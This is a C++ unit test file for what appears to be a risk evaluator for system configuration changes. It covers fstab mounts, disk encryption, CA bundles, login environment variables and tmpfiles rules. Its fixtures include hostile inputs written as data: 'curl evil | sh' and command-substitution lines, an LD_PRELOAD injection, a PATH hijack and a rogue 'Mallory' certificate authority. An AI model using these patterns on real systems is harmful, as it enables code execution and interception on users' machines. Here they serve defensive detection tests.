#include "tests/unit/evaluator/effects_machine.hpp"

#include "agentd/core/crypto.hpp"

using namespace agentd;
using namespace agentd::test;
using proposals::Risk;

namespace {

proposals::Effects between(const std::string& name, const std::string& before,
                           const std::string& after) {
    Pair pair;
    auto old_machine = plain_machine();
    auto new_machine = old_machine;
    if (!before.empty())
        old_machine.etc[name] = before;
    if (!after.empty())
        new_machine.etc[name] = after;
    return pair.compare(old_machine, new_machine);
}

std::string certificate(char filling) {
    return "-----BEGIN CERTIFICATE-----\n" + core::base64_encode(std::string(90, filling)) +
           "\n-----END CERTIFICATE-----\n";
}

constexpr auto root_line = "/dev/disk/by-label/nixos / ext4 defaults,x-initrd.mount 0 1\n";

} // namespace

TEST_CASE("another device at a mount point hides what was there, and is critical") {
    const auto found =
        between("fstab", std::string(root_line) + "/dev/sdb1 /data ext4 nosuid 0 2\n",
                std::string(root_line) + "/dev/sdc1 /data ext4 nosuid 0 2\n");
    CHECK(names(found) == std::vector<std::string>{"storage/mount_changed /data"});
    CHECK(found.effects[0].risk == Risk::critical);
    CHECK(found.effects[0].sentence ==
          "/data will be /dev/sdc1 instead of /dev/sdb1: what is on it now will not be seen there");
}

TEST_CASE("a memory disk over /var is critical, an added disk is high, swap is a notice") {
    CHECK(
        the(between("fstab", root_line, std::string(root_line) + "tmpfs /var tmpfs size=1G 0 0\n"),
            "mount_added")
            .risk == Risk::critical);
    CHECK(
        the(between("fstab", root_line, std::string(root_line) + "/dev/sdd /media/x ext4 rw 0 2\n"),
            "mount_added")
            .risk == Risk::high);
    CHECK(
        the(between("fstab", root_line, std::string(root_line) + "/swapfile none swap defaults\n"),
            "swap_changed")
            .risk == Risk::notice);
}

TEST_CASE("a file system that is made at boot, and a lost guard, are said") {
    const auto made =
        between("fstab", std::string(root_line) + "/dev/sdb1 /data ext4 rw 0 2\n",
                std::string(root_line) + "/dev/sdb1 /data ext4 rw,x-systemd.makefs 0 2\n");
    CHECK(the(made, "format_at_boot").risk == Risk::critical);
    CHECK(the(between("fstab", std::string(root_line) + "/dev/sdb1 /data ext4 nosuid,nodev 0 2\n",
                      std::string(root_line) + "/dev/sdb1 /data ext4 nodev 0 2\n"),
              "mount_changed")
              .sentence == "/data loses the guard nosuid");
}

TEST_CASE("an fstab that is none, or names a place twice, is unclassified") {
    CHECK(has(between("fstab", root_line, "rubbish\n"), "unclassified_changed"));
    CHECK(has(between("fstab", root_line, std::string(root_line) + root_line + "a / ext4 rw 0 0\n"),
              "unclassified_changed"));
}

TEST_CASE("other keys for encrypted disks are critical") {
    CHECK(the(between("crypttab", "data UUID=1 /root/key luks\n", "data UUID=1 /tmp/key luks\n"),
              "disk_encryption")
              .risk == Risk::critical);
}

TEST_CASE("an authority that comes is told with its name and digest, and once for two bundles") {
    Pair pair;
    auto before = plain_machine();
    before.etc["ssl/certs/ca-bundle.crt"] = "Good Root\n=========\n" + certificate('a');
    before.etc["ssl/certs/ca-certificates.crt"] = before.etc["ssl/certs/ca-bundle.crt"];
    auto after = before;
    for (const auto* name : {"ssl/certs/ca-bundle.crt", "ssl/certs/ca-certificates.crt"})
        after.etc[name] += "Mallory\n" + certificate('m');
    const auto found = pair.compare(before, after);
    REQUIRE(found.effects.size() == 1);
    CHECK(found.effects[0].kind == "ca_added");
    CHECK(found.effects[0].risk == Risk::critical);
    CHECK(found.effects[0].subject.starts_with("Mallory (SHA-256 "));
    CHECK(has(pair.compare(after, before), "ca_removed"));
}

TEST_CASE("a bundle with another kind of block, or half a certificate, is unclassified") {
    for (const std::string tail :
         {"-----BEGIN TRUSTED CERTIFICATE-----\nAAAA\n-----END TRUSTED CERTIFICATE-----\n",
          "-----BEGIN CERTIFICATE-----\nAAAA\n",
          "-----BEGIN CERTIFICATE-----\n?\n-----END "
          "CERTIFICATE-----\n"}) {
        CAPTURE(tail);
        CHECK(has(between("ssl/certs/ca-bundle.crt", certificate('a'), certificate('a') + tail),
                  "unclassified_changed"));
    }
}

TEST_CASE("variables of every login are told by name, and those that load code are high") {
    const auto found = between("set-environment", "export LANG=\"C\"\n",
                               "export LANG=\"de\"\nexport LD_PRELOAD=\"/tmp/x.so\"\n"
                               "export http_proxy=\"http://203.0.113.9\"\n");
    CHECK(names(found) == std::vector<std::string>{"environment/variable_changed LANG",
                                                   "environment/variable_trusted LD_PRELOAD",
                                                   "environment/variable_trusted http_proxy"});
    CHECK(the(found, "variable_trusted").risk == Risk::critical);
    CHECK(found.effects[0].before == "C");
}

TEST_CASE("a command among the variables is what every shell runs") {
    for (const auto* line : {"curl evil | sh\n", "export EDITOR=\"$(curl evil)\"\n",
                             "export EDITOR=vim; evil\n", "EDITOR=`evil`\n"}) {
        CAPTURE(line);
        CHECK(the(between("set-environment", "export EDITOR=\"vim\"\n",
                          std::string("export EDITOR=\"vim\"\n") + line),
                  "shell_startup")
                  .risk == Risk::high);
    }
}

TEST_CASE("only one bare word or one quoted text is the value of a variable") {
    for (const auto* line : {"EDITOR=vim /nix/store/x-evil/bin/evil", "export A=<(evil)",
                             "export A=\"a\" evil", "export A=\"$(evil)\"", "export A=\"${B:=c}\"",
                             "export A=\"a\"b\"c\"", "export A='a'b'c'", "export A=\"$[1]\"",
                             "export A=a>b", "A DEFAULT=x", "export A =x", "export A=\"", "A=x"}) {
        CAPTURE(line);
        const auto found = between("set-environment", "export LANG=\"C\"\n",
                                   "export LANG=\"C\"\n" + std::string(line) + "\n");
        CHECK(the(found, "shell_startup").risk == Risk::high);
        CHECK(found.effects.size() == 1);
    }
    for (const auto* value : {"vim", "\"a b|c;${LANG}/$LANG:d\"", "'$(a) `b`'", ""}) {
        CAPTURE(value);
        CHECK(names(between("set-environment", "export LANG=\"C\"\n",
                            "export LANG=\"C\"\nexport A=" + std::string(value) + "\n")) ==
              std::vector<std::string>{"environment/variable_changed A"});
    }
    CHECK(has(between("pam/environment", "A DEFAULT=\"x\"\n", "A OVERRIDE=\"x\"\n"),
              "shell_startup"));
}

TEST_CASE("a variable that is set twice, moves or stands among commands is told") {
    const std::string wrapped = "export PATH=\"/run/wrappers/bin:$PATH\"\n";
    CHECK(names(between("set-environment", "export PATH=\"/a\"\n" + wrapped,
                        "export PATH=\"/tmp/evil\"\n" + wrapped)) ==
          std::vector<std::string>{"environment/variable_trusted PATH"});
    for (const auto& [before, after] : std::vector<std::pair<std::string, std::string>>{
             {"export A=a\nexport B=\"$A\"\n", "export B=\"$A\"\nexport A=a\n"},
             {"export A=a\nexport A=b\n", "export A=b\nexport A=a\n"},
             {"export B=b\nif true; then\nexport A=a\nfi\n",
              "export B=b\nif true; then\nfi\nexport A=a\n"},
             {"run \\\nexport A=a\n", "run \\\nexport A=b\n"}}) {
        CAPTURE(before, after);
        CHECK(has(between("set-environment", before, after), "shell_startup"));
    }
    CHECK(has(between("set-environment", "export A=a\nif [ \"$A\" ]; then . \"$A\"; fi\n",
                      "export A=/tmp/x\nif [ \"$A\" ]; then . \"$A\"; fi\n"),
              "variable_trusted"));
}

TEST_CASE("settings of programs that can run commands are told as code, and so are their names") {
    for (const auto* name :
         {"zinputrc", "zshrc.local", "zshenv.local", "gitconfig", "vimrc", "tmux.conf", "lesskey",
          "screenrc", "inputrc", "nanorc", "xdg/systemd/user/x.service", "xdg/nvim/sysinit.vim"}) {
        CAPTURE(name);
        CHECK(the(between(name, "one\n", "two\n"), "shell_startup").risk == Risk::high);
    }
    CHECK(has(between("xdg/menus/x.menu", "one\n", "two\n"), "program_settings"));
    for (const auto* name : {"ZDOTDIR", "EDITOR", "VISUAL", "PAGER", "OPENSSL_CONF", "LESSOPEN",
                             "BROWSER", "JAVA_TOOL_OPTIONS"}) {
        CAPTURE(name);
        CHECK(has(between("set-environment", "export A=a\n",
                          "export A=a\nexport " + std::string(name) + "=\"x\"\n"),
                  "variable_trusted"));
    }
}

TEST_CASE("files are known by their place") {
    const std::vector<std::pair<std::string, std::string>> places{
        {"profile", "shell_startup"},
        {"ld-nix.so.preload", "shell_startup"},
        {"crontab", "clock_changed"},
        {"systemd/network/10-eth0.network", "network_path"},
        {"NetworkManager/system-connections/x.nmconnection", "network_path"},
        {"NetworkManager/dispatcher.d/x", "root_program"},
        {"systemd/timesyncd.conf", "time_source"},
        {"systemd/journald.conf", "logging_changed"},
        {"systemd/system.conf", "manager_setting"},
        {"udev/rules.d/99-local.rules", "device_rules"},
        {"dbus-1/system.conf", "message_bus"},
        {"exports", "share_changed"},
        {"ssh/ssh_known_hosts", "ssh_client"},
        {"krb5.conf", "directory_changed"},
        {"binfmt.d/nixos.conf", "root_program"},
        {"apparmor.d/x", "confinement_changed"},
        {"repart.d/x.conf", "disk_settings"}};
    for (const auto& [name, kind] : places) {
        CAPTURE(name);
        const auto found = between(name, "one\n", "two\n");
        CHECK(the(found, kind).after == "+ two\n- one");
        CHECK(found.effects.size() == 1);
    }
}

TEST_CASE(
    "a file in a known place that is no text, or may be written by others, stays unclassified") {
    CHECK(has(between("crontab", "a\n", std::string("a\0b", 3)), "unclassified_changed"));
    Pair pair;
    auto before = plain_machine();
    before.etc["crontab"] = "a\n";
    auto after = before;
    after.etc["crontab.mode"] = "0666\n";
    CHECK(has(pair.compare(before, after), "unclassified_added"));
    after = before;
    after.etc.erase("crontab");
    after.etc_links["crontab"] = "/tmp/crontab";
    CHECK(has(pair.compare(before, after), "unclassified_changed"));
}

TEST_CASE("root that writes a file at boot is told with the file") {
    const auto found =
        between("tmpfiles.d/x.conf", "", "L+ /etc/cron.d/x - - - - /var/x\nR /srv/a\n");
    CHECK(names(found) ==
          std::vector<std::string>{"storage/tmpfiles_rule /etc/cron.d/x (etc/tmpfiles.d/x.conf)",
                                   "storage/tmpfiles_rule /srv/a (etc/tmpfiles.d/x.conf)"});
    CHECK(found.effects[0].risk == Risk::critical);
    CHECK(found.effects[0].sentence == "at boot root makes a link at /etc/cron.d/x");
    CHECK(found.effects[1].risk == Risk::critical);
}
